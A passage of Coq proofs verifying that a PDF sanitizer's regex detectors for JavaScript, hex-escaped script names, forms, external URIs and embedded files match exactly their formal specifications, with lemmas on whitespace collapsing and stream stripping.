Qed.

(** [(?i)JS\(\s*#(?:[0-9A-Fa-f]{2,})+], exactly. *)
Lemma js_hex_call_spec t :
  MatchString js_hex_call_rx t = true <-> has_hex_call t.
Proof.
  split.
  - intros H. apply MatchString_elim in H as (a & s & -> & H).
    destruct (run js_hex_call_rx (Cur (last_byte a None) s)) as [|e l] eqn:E;
      [congruence|].
    assert (In e (run js_hex_call_rx (Cur (last_byte a None) s))) as Hin
      by (rewrite E; now left).
    clear H E. unfold js_hex_call_rx in Hin.
    apply in_run_concat_inv in Hin as (c1 & H1 & H2).
    apply in_run_lit_i_inv in H1 as (w & t1 & Hw & -> & ->);
      [|repeat constructor].
    apply in_run_concat_inv in H2 as (c2 & H2 & H3).
    apply in_run_star_space_inv in H2 as (ws & Hws & [Sw _]).
    destruct c2 as [q2 s2]. cbn [rest prev] in *. subst t1.
    apply in_run_concat_inv in H3 as (c3 & H3 & H4).
    apply in_run_lit_i_inv in H3 as (w3 & t3 & Hw3 & -> & ->);
      [|repeat constructor].
    apply (spells_punct _ _ punct_hash) in Hw3. subst w3.
    pose proof H4 as H4'.
    apply in_run_hex_inv in H4 as (h & [Sh _] & Fh);
      [|unfold plus, at_least, times; repeat constructor].
    cbn [rest] in Sh. subst t3.
    exists a, w, ws, h, (rest e). repeat split; auto.
    unfold plus in H4'. apply in_run_concat_inv in H4' as (c4 & H5 & H6).
    unfold at_least in H5. apply in_run_concat_inv in H5 as (c5 & H5 & H7).
    apply run_times_len in H5; [|apply consuming_class].
    apply run_span in H6 as (w6 & S6). apply span_length in S6.
    apply run_span in H7 as (w7 & S7). apply span_length in S7.
    cbn [rest] in *. rewrite length_app in H5. lia.
  - intros (a & w & ws & h & b & -> & Hw & Hws & Fh & L).
    now apply js_hex_call_match.
Qed.

(** ** The lists of patterns *)

(** [any_match] is the disjunction of the matches. *)
Lemma any_match_cons rx rxs s :
  any_match (rx :: rxs) s = MatchString rx s || any_match rxs s.
Proof. cbn. now destruct (MatchString rx s). Qed.

Lemma any_match_true rxs s :
  any_match rxs s = true <-> exists rx, In rx rxs /\ MatchString rx s = true.
Proof.
  split.
  - induction rxs as [|r rxs IH]; [discriminate|].
    rewrite any_match_cons, orb_true_iff. intros [H|H].
    + exists r. split; [now left | exact H].
    + destruct (IH H) as (rx & Hin & Hm). exists rx.
      split; [now right | exact Hm].
  - intros (rx & Hin & Hm). now apply (any_match_In rxs s rx).
Qed.

Lemma any_match_app l1 l2 t :
  any_match (l1 ++ l2) t = any_match l1 t || any_match l2 t.
Proof.
  induction l1 as [|r l1 IH]; [reflexivity|].
  cbn [app]. rewrite !any_match_cons, IH. apply orb_assoc.
Qed.

(** The four lists, by the shapes of their patterns. *)
Lemma jsPatterns_shapes :
  jsPatterns = map slash_rx script_keys ++ map call_of script_calls
               ++ [js_hex_call_rx].
Proof. reflexivity. Qed.

Lemma formPatternsRegex_shapes :
  formPatternsRegex =
  map slash_rx form_keys ++ map field_type_rx field_subtypes.
Proof. reflexivity. Qed.

Lemma externalRegexes_shapes :
  externalRegexes =
  map slash_rx action_keys
  ++ [uri_key_rx; call_rx "URI" "("; http_rx;
      (WordBoundary ;; lit_i "file://")%re;
      (WordBoundary ;; lit_i "ftp://")%re].
Proof. reflexivity. Qed.

Lemma embeddedFilesRegex_shapes :
  embeddedFilesRegex = map slash_rx embedded_keys.
Proof. reflexivity. Qed.

Lemma keys_ascii :
  Forall (fun kw => is_ascii (str kw) /\ no_space kw /\
                    exists c kw', kw = String c kw')
    (script_keys ++ form_keys ++ field_subtypes ++ action_keys
       ++ embedded_keys).
Proof.
  repeat (constructor;
          [split; [repeat constructor
                  |split; [repeat constructor | eexists _, _; reflexivity]]|]).
  constructor.
Qed.

Lemma script_calls_ok kp : In kp script_calls ->
  is_ascii (str (fst kp)) /\ no_space (fst kp) /\
  (exists c kw', fst kp = String c kw') /\
  punct (snd kp) /\ is_space_byte (snd kp) = false.
Proof.
  unfold script_calls. cbn [In].
  intros [<-|[<-|[<-|[<-|[<-|[<-|[<-|[]]]]]]]]; cbn [fst snd];
    (split; [repeat constructor
            |split; [repeat constructor
                    |split; [eexists _, _; reflexivity
                            |split; [split; reflexivity | reflexivity]]]]).
Qed.

Lemma script_calls_punct kp :
  In kp script_calls -> snd kp = "."%char \/ snd kp = "("%char.
Proof.
  unfold script_calls. cbn [In].
  intros [<-|[<-|[<-|[<-|[<-|[<-|[<-|[]]]]]]]]; cbn; auto.
Qed.

(** A list of patterns of one shape matches when one of its keywords is
    found. *)
Lemma slash_keys_exact keys t :
  Forall (fun kw => is_ascii (str kw)) keys ->
  any_match (map slash_rx keys) t = true <->
  exists kw, In kw keys /\ has_slash_keyword kw t.
Proof.
  intros Hk. rewrite any_match_true. rewrite Forall_forall in Hk. split.
  - intros (rx & Hin & Hm). apply in_map_iff in Hin as (kw & <- & Hin).
    exists kw. split; [exact Hin|]. apply slash_rx_spec; auto.
  - intros (kw & Hin & Hm). exists (slash_rx kw).
    split; [now apply in_map | apply slash_rx_spec; auto].
Qed.

Lemma field_types_exact subs t :
  Forall (fun kw => is_ascii (str kw)) subs ->
  any_match (map field_type_rx subs) t = true <->
  exists sub, In sub subs /\ has_field_type sub t.
Proof.
  intros Hk. rewrite any_match_true. rewrite Forall_forall in Hk. split.
  - intros (rx & Hin & Hm). apply in_map_iff in Hin as (kw & <- & Hin).
    exists kw. split; [exact Hin|]. apply field_type_rx_spec; auto.
  - intros (kw & Hin & Hm). exists (field_type_rx kw).
    split; [now apply in_map | apply field_type_rx_spec; auto].
Qed.

Lemma script_calls_exact t :
  any_match (map call_of script_calls) t = true <->
  exists kp, In kp script_calls /\ has_call (fst kp) (snd kp) t.
Proof.
  rewrite any_match_true. split.
  - intros (rx & Hin & Hm). apply in_map_iff in Hin as (kp & <- & Hin).
    exists kp. split; [exact Hin|].
    destruct (script_calls_ok kp Hin) as (Ha & _ & (c & kw' & E) & Hp & _).
    now apply (call_rx_spec _ c kw' _ _ E Ha Hp).
  - intros (kp & Hin & H). exists (call_of kp). split; [now apply in_map|].
    destruct (script_calls_ok kp Hin) as (Ha & _ & (c & kw' & E) & Hp & _).
    now apply (call_rx_spec _ c kw' _ _ E Ha Hp).
Qed.

(** The lists of the script detector and of the external-reference detector,
    exactly. *)
Lemma direct_marker_spec u :
  any_match jsPatterns u = true <-> has_direct_marker u.
Proof.
  rewrite jsPatterns_shapes, !any_match_app, !orb_true_iff.
  unfold has_direct_marker.
  rewrite slash_keys_exact by repeat constructor.
  rewrite script_calls_exact.
  cbn [any_match]. rewrite <- js_hex_call_spec.
  destruct (MatchString js_hex_call_rx u); apply iff_refl.
Qed.

Lemma external_marker_spec u :
  any_match externalRegexes u = true <-> has_external_marker u.
Proof.
  rewrite externalRegexes_shapes, any_match_app, orb_true_iff.
  unfold has_external_marker.
  rewrite slash_keys_exact by repeat constructor.
  rewrite <- uri_key_spec.
  rewrite <- (call_rx_spec "URI" "U" "RI" "(" u eq_refl)
    by (repeat constructor || (split; reflexivity)).
  rewrite <- (scheme_rx_spec "f" "ile://" u fold_class_f_word eq_refl eq_refl)
    by repeat constructor.
  rewrite <- (scheme_rx_spec "f" "tp://" u fold_class_f_word eq_refl eq_refl)
    by repeat constructor.
  rewrite !any_match_cons. cbn [any_match]. rewrite !orb_true_iff.
  rewrite http_rx_spec. intuition discriminate.
Qed.

(** A marker stays one when bytes are added around the text. *)
Lemma has_slash_keyword_context kw t pre post :
  has_slash_keyword kw t -> has_slash_keyword kw (pre ++ t ++ post).
Proof.
  intros (a & ws & w & b & -> & Hws & Hw).
  exists (pre ++ a), ws, w, (b ++ post). split; [|now split].
  rewrite <- !app_assoc. cbn [app]. now rewrite <- !app_assoc.
Qed.

Lemma has_field_type_context sub t pre post :
  has_field_type sub t -> has_field_type sub (pre ++ t ++ post).
Proof.
  intros (a & ws1 & ft & ws2 & ws3 & w & b & -> & H).
  exists (pre ++ a), ws1, ft, ws2, ws3, w, (b ++ post). split; [|exact H].
  rewrite <- !app_assoc. cbn [app]. rewrite <- !app_assoc. cbn [app].
  now rewrite <- !app_assoc.
Qed.

(** ** Markers through whitespace collapsing

    A marker of the text is a marker of the collapsed text: its keyword holds
    no whitespace, and the whitespace inside the marker is optional. *)

Lemma has_slash_keyword_squeeze c kw' t :
  no_space (String c kw') ->
  has_slash_keyword (String c kw') t ->
  has_slash_keyword (String c kw') (squeeze false t).
Proof.
  intros Hn (a & ws & w & b & -> & Hws & Hw).
  rewrite squeeze_app_byte by reflexivity.
  destruct (squeeze_gap ws w b Hws
              (prefix_i_nonspace _ _ _ _ Hn Hw) (spells_nonempty _ _ _ Hw))
    as (ws' & Hws' & ->).
  now exists (squeeze false a), ws', w, (squeeze false b).
Qed.

Lemma has_call_squeeze c kw' p t :
  no_space (String c kw') -> is_space_byte p = false ->
  has_call (String c kw') p t -> has_call (String c kw') p (squeeze false t).
Proof.
  intros Hn Hp (a & w & ws & b & -> & Hws & Hw).
  rewrite (squeeze_app_word w (prefix_i_nonspace _ _ _ _ Hn Hw)
             (spells_nonempty _ _ _ Hw)).
  destruct (squeeze_gap ws [p] b Hws) as (ws' & Hws' & E).
  { constructor; [now rewrite Hp | constructor]. }
  { discriminate. }
  change (ws ++ p :: b) with (ws ++ [p] ++ b). rewrite E.
  now exists (squeeze false a), w, ws', (squeeze false b).
Qed.

Lemma has_uri_key_squeeze t : has_uri_key t -> has_uri_key (squeeze false t).
Proof.
  intros (a & ws & w & b & -> & Hws & Hw & Hb).
  rewrite squeeze_app_byte by reflexivity.
  assert (no_space "URI") as Hn by repeat constructor.
  destruct (squeeze_gap ws w b Hws
              (prefix_i_nonspace _ _ _ _ Hn Hw) (spells_nonempty _ _ _ Hw))
    as (ws' & Hws' & ->).
  exists (squeeze false a), ws', w, (squeeze false b).
  repeat split; auto. now rewrite squeeze_head_word.
Qed.

Lemma has_call_hex_squeeze a w ws h b :
  spells_i "JS(" w -> Forall (fun x => is_space_byte x = true) ws ->
  Forall (fun x => is_hex_byte x = true) h ->
  exists a' ws' b',
    squeeze false (a ++ w ++ ws ++ "#"%char :: h ++ b)
    = a' ++ w ++ ws' ++ "#"%char :: h ++ b' /\
    Forall (fun x => is_space_byte x = true) ws'.
Proof.
  intros Hw Hws Hh.
  assert (no_space "JS(") as Hn by repeat constructor.
  rewrite (squeeze_app_word w (prefix_i_nonspace _ _ _ _ Hn Hw)
             (spells_nonempty _ _ _ Hw)).
  destruct (squeeze_gap ws ("#"%char :: h) b Hws) as (ws' & Hws' & E).
  { constructor; [reflexivity|].
    eapply Forall_impl; [|exact Hh]. apply hex_not_space. }
  { discriminate. }
  change (ws ++ "#"%char :: h ++ b) with (ws ++ ("#"%char :: h) ++ b).
  rewrite E. now exists (squeeze false a), ws', (squeeze false b).
Qed.

Lemma script_key_match kw t :
  In kw script_keys -> has_slash_keyword kw t ->
  any_match jsPatterns (collapseWhitespace t) = true.
Proof.
  intros Hin H. rewrite jsPatterns_shapes, any_match_app.
  apply orb_true_iff. left.
  pose proof keys_ascii as Hk. rewrite Forall_forall in Hk.
  destruct (Hk kw) as (Ha & Hn & c & kw' & E).
  { apply in_or_app. now left. }
  apply any_match_true. exists (slash_rx kw). split; [now apply in_map|].
  rewrite collapseWhitespace_squeeze. apply slash_rx_spec; [exact Ha|].
  subst kw. now apply has_slash_keyword_squeeze.
Qed.

Lemma script_call_match kp t :
  In kp script_calls -> has_call (fst kp) (snd kp) t ->
  any_match jsPatterns (collapseWhitespace t) = true.
Proof.
  intros Hin H. rewrite jsPatterns_shapes, !any_match_app.
  apply orb_true_iff. right. apply orb_true_iff. left.
  destruct (script_calls_ok kp Hin) as (Ha & Hn & (c & kw' & E) & Hp & Hs).
  apply any_match_true. exists (call_of kp). split; [now apply in_map|].
  rewrite collapseWhitespace_squeeze. unfold call_of.
  apply (call_rx_spec _ c kw'); [exact E | exact Ha | exact Hp|].
  rewrite E in *. now apply has_call_squeeze.
Qed.

Lemma external_match_direct rx data :
  In rx externalRegexes -> MatchString rx (collapseWhitespace data) = true ->
  checkForExternalReferences data = Some ErrExternalRefDetected.
Proof.
  intros Hin H. unfold checkForExternalReferences.
  now rewrite (any_match_In _ _ _ Hin H).
Qed.

(** ** Bytes that every match needs *)

(** A byte that the regular expression requires is among the bytes of every
    match. *)
Lemma requires_span x r : requires x r ->
  forall c e, In e (run r c) -> exists w, span c e w /\ In x w.
Proof.
  induction 1 as [p Hx Hp|r1 r2 _ IH|r1 r2 _ IH|r1 r2 _ IH1 _ IH2];
    intros c e H.
  - destruct c as [q s].
    rewrite run_ascii_class in H.
    + destruct s as [|b t]; [destruct H|].
      destruct (p (code b)) eqn:E; [|destruct H]. destruct H as [<-|[]].
      apply Hp, code_inj in E. subst b.
      exists [x]. split; [now split | now left].
    + intros y Hy. apply Hp in Hy. lia.
  - apply in_run_concat_inv in H as (c1 & H1 & H2).
    destruct (IH _ _ H1) as (w1 & S1 & I1).
    destruct (run_span _ _ _ H2) as (w2 & S2).
    exists (w1 ++ w2). split; [eapply span_app; eauto|].
    apply in_or_app. now left.
  - apply in_run_concat_inv in H as (c1 & H1 & H2).
    destruct (run_span _ _ _ H1) as (w1 & S1).
    destruct (IH _ _ H2) as (w2 & S2 & I2).
    exists (w1 ++ w2). split; [eapply span_app; eauto|].
    apply in_or_app. now right.
  - cbn [run] in H. apply in_app_or in H as [H|H]; eauto.
Qed.

Lemma requires_match x r t :
  requires x r -> MatchString r t = true -> In x t.
Proof.
  intros Hr H. apply MatchString_elim in H as (a & s & -> & H).
  destruct (run r (Cur (last_byte a None) s)) as [|e l] eqn:E; [congruence|].
  assert (In e (run r (Cur (last_byte a None) s))) as Hin
    by (rewrite E; now left).
  destruct (requires_span _ _ Hr _ _ Hin) as (w & [Sw _] & Hw).
  cbn [rest] in Sw. subst s. apply in_or_app. right. apply in_or_app. now left.
Qed.

Lemma requires_seq_i x : punct x -> forall l,
  In x l -> requires x (seq_of (map chr_i l)).
Proof.
  intros Hx. induction l as [|a l IH]; intros H; [destruct H|].
  cbn [map seq_of fold_right]. destruct H as [->|H].
  - apply req_left. unfold chr_i. apply req_class; [apply Hx|].
    intros y. now apply punct_class.
  - apply req_right. now apply IH.
Qed.

Lemma requires_lit_i x pat :
  punct x -> In x (str pat) -> requires x (lit_i pat).
Proof. intros Hx. apply (requires_seq_i x Hx). Qed.

Lemma requires_lit x pat :
  (code x < 128)%N -> In x (str pat) -> requires x (lit pat).
Proof.
  intros Hx. unfold lit. generalize (str pat). intros l.
  induction l as [|a l IH]; intros H; [destruct H|].
  cbn [map seq_of fold_right]. destruct H as [->|H].
  - apply req_left. unfold chr. apply req_class; [exact Hx|].
    intros y Hy. apply N.eqb_eq in Hy. now symmetry.
  - apply req_right. now apply IH.
Qed.

Lemma any_match_requires (P : ascii -> Prop) rxs t :
  Forall (fun r => exists x, P x /\ requires x r) rxs ->
  (forall x, P x -> ~ In x t) -> any_match rxs t = false.
Proof.
  intros Hr Ht. destruct (any_match rxs t) eqn:E; [|reflexivity].
  apply any_match_true in E as (rx & Hin & Hm).
  rewrite Forall_forall in Hr. destruct (Hr _ Hin) as (x & Px & Rx).
  exfalso. apply (Ht x Px). now apply (requires_match _ _ _ Rx).
Qed.

Lemma requires_slash_rx kw : requires "/" (slash_rx kw).
Proof.
  apply req_left, requires_lit_i; [apply punct_slash | now left].
Qed.

Lemma requires_call_rx kw p : punct p ->
  requires p (call_rx kw (String p EmptyString)).
Proof.
  intros Hp. apply req_right, req_right, requires_lit_i; [exact Hp | now left].
Qed.

Lemma requires_field_type_rx sub : requires "/" (field_type_rx sub).
Proof.
  apply req_left, requires_lit_i; [apply punct_slash | now left].
Qed.

(** Every pattern of the package requires a slash, a parenthesis or a dot. *)
Lemma jsPatterns_require :
  Forall (fun r => exists x, In x (str "/(.") /\ requires x r) jsPatterns.
Proof.
  rewrite jsPatterns_shapes. apply Forall_app.
  split; [|apply Forall_app; split].
  - apply Forall_map, Forall_forall. intros kw _.
    exists "/"%char. split; [now left | apply requires_slash_rx].
  - apply Forall_map, Forall_forall. intros kp Hkp. unfold call_of.
    destruct (script_calls_punct _ Hkp) as [E|E]; rewrite E.
    + exists "."%char. split; [cbn; tauto | apply requires_call_rx, punct_dot].
    + exists "("%char.
      split; [cbn; tauto | apply requires_call_rx, punct_paren].
  - constructor; [|constructor]. exists "("%char. split; [cbn; tauto|].
    apply req_left, requires_lit_i; [apply punct_paren | cbn; tauto].
Qed.

Lemma formPatternsRegex_require :
  Forall (fun r => exists x, In x (str "/(") /\ requires x r) formPatternsRegex.
Proof.
  rewrite formPatternsRegex_shapes. apply Forall_app. split;
    apply Forall_map, Forall_forall; intros kw _;
    exists "/"%char; (split; [now left|]).
  - apply requires_slash_rx.
  - apply requires_field_type_rx.
Qed.

Lemma externalRegexes_require :
  Forall (fun r => exists x, In x (str "/(") /\ requires x r) externalRegexes.
Proof.
  rewrite externalRegexes_shapes. apply Forall_app. split.
  - apply Forall_map, Forall_forall. intros kw _.
    exists "/"%char. split; [now left | apply requires_slash_rx].
  - repeat constructor.
    + exists "/"%char. split; [now left|].
      apply req_left, requires_lit_i; [apply punct_slash | now left].
    + exists "("%char. split; [cbn; tauto|].
      apply (requires_call_rx "URI" "(" punct_paren).
    + exists "/"%char. split; [now left|].
      apply req_right, req_right, req_right, requires_lit_i;
        [apply punct_slash | cbn; tauto].
    + exists "/"%char. split; [now left|].
      apply req_right, requires_lit_i; [apply punct_slash | cbn; tauto].
    + exists "/"%char. split; [now left|].
      apply req_right, requires_lit_i; [apply punct_slash | cbn; tauto].
Qed.

Lemma embeddedFilesRegex_require :
  Forall (fun r => exists x, In x (str "/(") /\ requires x r)
    embeddedFilesRegex.
Proof.
  rewrite embeddedFilesRegex_shapes.
  apply Forall_map, Forall_forall. intros kw _.
  exists "/"%char. split; [now left | apply requires_slash_rx].
Qed.

Lemma free_of_spec marks data x :
  free_of marks data = true -> In x marks -> ~ In x data.
Proof.
  unfold free_of. rewrite forallb_forall. intros H Hm Hd.
  specialize (H x Hd). apply negb_true_iff in H.
  assert (existsb (Ascii.eqb x) marks = true); [|congruence].
  apply existsb_exists. exists x. split; [exact Hm | apply Ascii.eqb_refl].
Qed.

(** Collapsing and replacing add no byte but the space of the replacement. *)
Lemma squeeze_In x : forall s st, In x (squeeze st s) -> In x s \/ x = " "%char.
Proof.
  induction s as [|b s IH]; intros st H; [destruct H|].
  cbn [squeeze] in H. destruct (is_space_byte b).
  - destruct st.
    + destruct (IH _ H); [left; now right | now right].
    + destruct H as [<-|H]; [now right|].
      destruct (IH _ H); [left; now right | now right].
  - destruct H as [<-|H]; [left; now left|].
    destruct (IH _ H); [left; now right | now right].
Qed.

Lemma replace_from_In r repl x : consuming r -> forall c,
  In x (replace_from r repl c) -> In x (rest c) \/ In x repl.
Proof.
  intros Hr c. remember (length (rest c)) as n eqn:En. revert c En.
  induction n as [n IH] using lt_wf_ind. intros [q t] -> H.
  rewrite replace_unfold in H by assumption.
  destruct (find r (Cur q t)) as [[cs ce]|] eqn:E; [|now left].
  pose proof (find_consuming _ _ _ _ Hr E) as Hs. apply shorter_spec in Hs.
  destruct (find_decomp _ _ _ _ _ E) as (a & w & Et & Eb & Ew).
  rewrite Eb in H. clear Eb E. subst t.
  rewrite Ew, length_app in Hs.
  apply in_app_or in H as [H|H].
  { left. cbn [rest]. apply in_or_app. now left. }
  apply in_app_or in H as [H|H]; [now right|].
  apply (IH (length (rest ce))) in H; [|cbn [rest]; rewrite !length_app; lia
                                        |reflexivity].
  destruct H as [H|H]; [left | now right].
  cbn [rest]. apply in_or_app. right. apply in_or_app. now right.
Qed.

(** ** Texts without a match *)

(** Without a match nothing is replaced and no location is reported. *)
Lemma replace_no_match r repl t :
  consuming r -> MatchString r t = false -> ReplaceAllString r t repl = t.
Proof.
  intros Hr H. change (ReplaceAllString r t repl)
    with (replace_from r repl (Cur None t)).
  rewrite replace_unfold by assumption.
  now rewrite (MatchString_false_find _ _ H).
Qed.

Lemma FindAll_no_match r t :
  MatchString r t = false -> FindAllStringIndex r t = [].
Proof.
  intros H. unfold FindAllStringIndex, start. cbn [find_loop].
  now rewrite (MatchString_false_find _ _ H).
Qed.

(** A stream region holds a spelling of both keywords. *)
Lemma streamRx_match_inv q s e :
  In e (run streamRx (Cur q s)) ->
  exists w1 m w2,
    s = w1 ++ m ++ w2 ++ rest e /\
    spells_i "stream" w1 /\ spells_i "endstream" w2.
Proof.
  intros H. unfold streamRx in H.
  apply in_run_concat_inv in H as (c1 & H1 & H2).
  apply in_run_lit_i_inv in H1 as (w1 & t1 & Hw1 & -> & ->);
    [|apply is_ascii_stream].
  apply in_run_concat_inv in H2 as (c2 & H2 & H3).
  apply run_span in H2 as (wb & [Sb _]).
  apply in_run_concat_inv in H3 as (c3 & H3 & H4).
  apply run_span in H3 as (m & [Sm _]).
  destruct c3 as [q3 s3]. cbn [rest] in *.
  apply in_run_lit_i_inv in H4 as (w2 & t2 & Hw2 & -> & ->);
    [|apply is_ascii_endstream].
  exists w1, (wb ++ m), w2. cbn [rest]. rewrite Sb, Sm, <- !app_assoc.
  now repeat split.
Qed.

Lemma streamRx_no_match t :
  index_i "stream" t = None \/ index_i "endstream" t = None ->
  MatchString streamRx t = false.
Proof.
  intros H. destruct (MatchString streamRx t) eqn:E; [|reflexivity].
  exfalso. apply MatchString_elim in E as (a & s & -> & E).
  destruct (run streamRx (Cur (last_byte a None) s)) as [|e l] eqn:Er;
    [congruence|].
  assert (In e (run streamRx (Cur (last_byte a None) s))) as Hin
    by (rewrite Er; now left).
  apply streamRx_match_inv in Hin as (w1 & m & w2 & -> & Hw1 & Hw2).
  destruct H as [H|H].
  - now apply (index_i_none_spells _ _ a w1 (m ++ w2 ++ rest e) H).
  - apply (index_i_none_spells _ _ (a ++ w1 ++ m) w2 (rest e) H); [|exact Hw2].
    now rewrite <- !app_assoc.
Qed.

Lemma stripStreams_unterminated t :
  index_i "stream" t = None \/ index_i "endstream" t = None ->
  stripStreams t = t.
Proof.
  intros H. apply replace_no_match; [apply consuming_streamRx|].
  now apply streamRx_no_match.
Qed.

(** ** Lengths, and the normal form of collapsed text *)

(** Replacing the matches of a consuming pattern by at most one byte does not
    lengthen the text. *)
Lemma replace_from_length r repl : consuming r -> length repl <= 1 ->
  forall c, length (replace_from r repl c) <= length (rest c).
Proof.
  intros Hr Hl c. remember (length (rest c)) as n eqn:En. revert c En.
  induction n as [n IH] using lt_wf_ind. intros [q t] ->.
  rewrite replace_unfold by assumption.
  destruct (find r (Cur q t)) as [[cs ce]|] eqn:E; [|reflexivity].
  pose proof (find_consuming _ _ _ _ Hr E) as Hs. apply shorter_spec in Hs.
  destruct (find_decomp _ _ _ _ _ E) as (a & w & Et & Eb & Ew).
  rewrite Eb. clear Eb E. subst t.
  rewrite Ew, length_app in Hs. cbn [rest]. rewrite !length_app.
  specialize (IH (length (rest ce))).
  assert (length (replace_from r repl ce) <= length (rest ce)).
  { apply IH; [cbn [rest]; rewrite !length_app; lia | reflexivity]. }
  lia.
Qed.

(** The collapsed text is a fixed point of collapsing. *)
Lemma squeeze_true_head s : not_starting is_space_byte (squeeze true s).
Proof.
  induction s as [|b s IH]; [exact I|]. cbn [squeeze].
  destruct (is_space_byte b) eqn:E; [exact IH | exact E].
Qed.

Lemma squeeze_not_starting st s :
  not_starting is_space_byte s -> squeeze st s = squeeze false s.
Proof.
  destruct s as [|b s]; [reflexivity|]. cbn. intros ->. reflexivity.
Qed.

Lemma squeeze_idem : forall s st, squeeze false (squeeze st s) = squeeze st s.
Proof.
  induction s as [|b s IH]; intros st; [reflexivity|].
  cbn [squeeze]. destruct (is_space_byte b) eqn:E.
  - destruct st; [apply IH|].
    cbn [squeeze]. change (is_space_byte " ") with true. cbv iota.
    f_equal. rewrite (squeeze_not_starting true) by apply squeeze_true_head.
    apply IH.
  - cbn [squeeze]. rewrite E. f_equal. apply IH.
Qed.

Lemma squeeze_single_spaced : forall s st, single_spaced (squeeze st s) = true.
Proof.
  induction s as [|b s IH]; intros st; [reflexivity|].
  cbn [squeeze]. destruct (is_space_byte b) eqn:E.
  - destruct st; [apply IH|].
    cbn [single_spaced]. change (is_space_byte " ") with true. cbv iota.
    rewrite IH, andb_true_r. cbn [Ascii.eqb andb].
    pose proof (squeeze_true_head s) as H.
    destruct (squeeze true s) as [|b' t]; [reflexivity|].
    cbn in H. rewrite H. reflexivity.
  - cbn [single_spaced]. rewrite E. apply IH.
Qed.

Lemma squeeze_length : forall s st, length (squeeze st s) <= length s.
Proof.
  induction s as [|b s IH]; intros st; [reflexivity|].
  pose proof (IH true). pose proof (IH false).
  cbn [squeeze]. destruct (is_space_byte b); [destruct st|]; cbn [length]; lia.
Qed.

(** ** The locations of the hex runs *)

(** Every location reported is the place of a match. *)
Lemma find_loop_sound r n : consuming r -> forall fuel c loc,
  In loc (find_loop r n fuel c) ->
  exists a s e,
    rest c = a ++ s /\ In e (run r (Cur (last_byte a (prev c)) s)) /\
    fst loc = n - length s /\ snd loc = n - length (rest e).
Proof.
  intros Hr. induction fuel as [|fuel IH]; intros [q t] loc H; [destruct H|].
  cbn [find_loop] in H.
  destruct (find r (Cur q t)) as [[cs ce]|] eqn:E; [|destruct H].
  rewrite (find_consuming _ _ _ _ Hr E) in H.
  apply find_sound in E as (a1 & s1 & l & -> & -> & Hl).
  assert (In ce (run r (Cur (last_byte a1 q) s1))) as Hin
    by (rewrite Hl; now left).
  destruct H as [<-|H].
  - exists a1, s1, ce. now repeat split.
  - apply IH in H as (a & s & e & Ea & He & H1 & H2).
    apply run_span in Hin as (w & [Sw Pw]). cbn [rest prev] in Sw, Pw.
    exists (a1 ++ w ++ a), s, e. cbn [rest prev]. repeat split; auto.
    + now rewrite Sw, Ea, <- !app_assoc.
    + now rewrite !last_byte_app, <- Pw.
Qed.

(** A match of [jsHexRx] is nine bytes long or more. *)
Lemma jsHexRx_length q s e :
  In e (run jsHexRx (Cur q s)) -> length (rest e) + 9 <= length s.
Proof.
  intros H. apply in_run_concat_inv in H as (c1 & H1 & H2).
  apply consuming_concat, shorter_spec in H1; [|apply consuming_class].
  apply in_run_concat_inv in H2 as (c2 & H2 & H3).
  apply (run_times_least 2) in H2.
  - apply run_span in H3 as (w & Hw). apply span_length in Hw.
    cbn [rest] in *. lia.
  - intros c e0 H0. apply (run_times_least 1) in H0; [lia|].
    intros c0 e1 H'. apply consuming_class, shorter_spec in H'. lia.
Qed.

Lemma hex_context_loop_true t locs :
  hex_context_loop t locs = true ->
  exists loc, In loc locs /\
              MatchString jsWordRegex (slice t (fst loc - 80) (fst loc)) = true.
Proof.
  induction locs as [|l0 locs IH]; [discriminate|].
  cbn [hex_context_loop].
  destruct (MatchString jsWordRegex (slice t (fst l0 - 80) (fst l0))) eqn:E.
  - intros _. exists l0. split; [now left | exact E].
  - intros H. destruct (IH H) as (loc & Hin & Hm).
    exists loc. split; [now right | exact Hm].
Qed.

(** The loop over the locations fires exactly on a hex window. *)
Lemma hex_window_spec t :
  hex_context_loop t (FindAllStringIndex jsHexRx t) = true <-> has_hex_window t.
Proof.
  split.
  - intros H. apply hex_context_loop_true in H as (loc & Hin & Hm).
    unfold FindAllStringIndex, start in Hin.
    apply (find_loop_sound _ _ consuming_jsHexRx) in Hin
      as (a & s & e & Ea & He & H1 & _).
    cbn [rest prev] in *. subst t.
    pose proof (jsHexRx_length _ _ _ He) as L.
    apply jsHexRx_sound in He as (h & -> & Fh).
    assert (fst loc = length a) as El.
    { rewrite H1, length_app. lia. }
    rewrite El, slice_before in Hm. apply jsWordRegex_spec in Hm.
    exists a, h, (rest e). repeat split; auto.
    cbn [length] in L. rewrite length_app in L. lia.
  - intros (a & h & b & -> & L & Fh & Hw).
    destruct (FindAll_hex a h b L Fh) as (loc & Hin & Hloc).
    apply (hex_context_loop_hit _ _ loc Hin).
    rewrite Hloc, slice_before. now apply jsWordRegex_spec.
Qed.

(** ** The detectors, exactly *)

Lemma checkForForms_marker t :
  checkForForms t = Some ErrFormDetected <-> has_form_marker t.
Proof.
  unfold checkForForms, has_form_marker.
  rewrite formPatternsRegex_shapes, any_match_app.
  rewrite <- slash_keys_exact by repeat constructor.
  rewrite <- field_types_exact by repeat constructor.
  rewrite <- orb_true_iff.
  destruct (_ || _); split; congruence.
Qed.

Lemma checkForEmbeddedFiles_marker t :
  checkForEmbeddedFiles t = Some ErrEmbeddedFileDetected <->
  has_embedded_marker t.
Proof.
  unfold checkForEmbeddedFiles, has_embedded_marker.
  rewrite embeddedFilesRegex_shapes.
  rewrite <- slash_keys_exact by repeat constructor.
  destruct (any_match _ t); split; congruence.
Qed.

Lemma external_marker content :
  checkForExternalReferences content = Some ErrExternalRefDetected <->
  has_external_marker (collapseWhitespace content).
Proof.
  unfold checkForExternalReferences. cbv zeta.
  rewrite <- external_marker_spec.
  destruct (any_match externalRegexes _); split; congruence.
Qed.

Lemma checkForJavaScript_marker content :
  checkForJavaScript content = Some ErrJavaScriptDetected <->
  has_script_marker content.
Proof.
  unfold has_script_marker, checkForJavaScript. cbv zeta.
  rewrite <- direct_marker_spec, <- hex_window_spec, <- jsHexAngle_spec,
    <- jsWordRegex_spec.
  destruct (any_match jsPatterns _); destruct (hex_context_loop _ _);
    destruct (MatchString jsHexAngle _); destruct (MatchString jsWordRegex _);
    cbn [andb]; (split; [try discriminate; tauto | intuition discriminate]).
Qed.

(** ** The later steps of [Check] *)

(** The detector that decides [Check] once the earlier ones are silent. *)
Lemma Check_forms data :
  checkStructure data = None -> checkForJavaScript data = None ->
  checkForForms data = Some ErrFormDetected ->
  Check data = Some ErrFormDetected.
Proof. intros H1 H2 H3. now rewrite Check_unfold, H1, H2, H3. Qed.

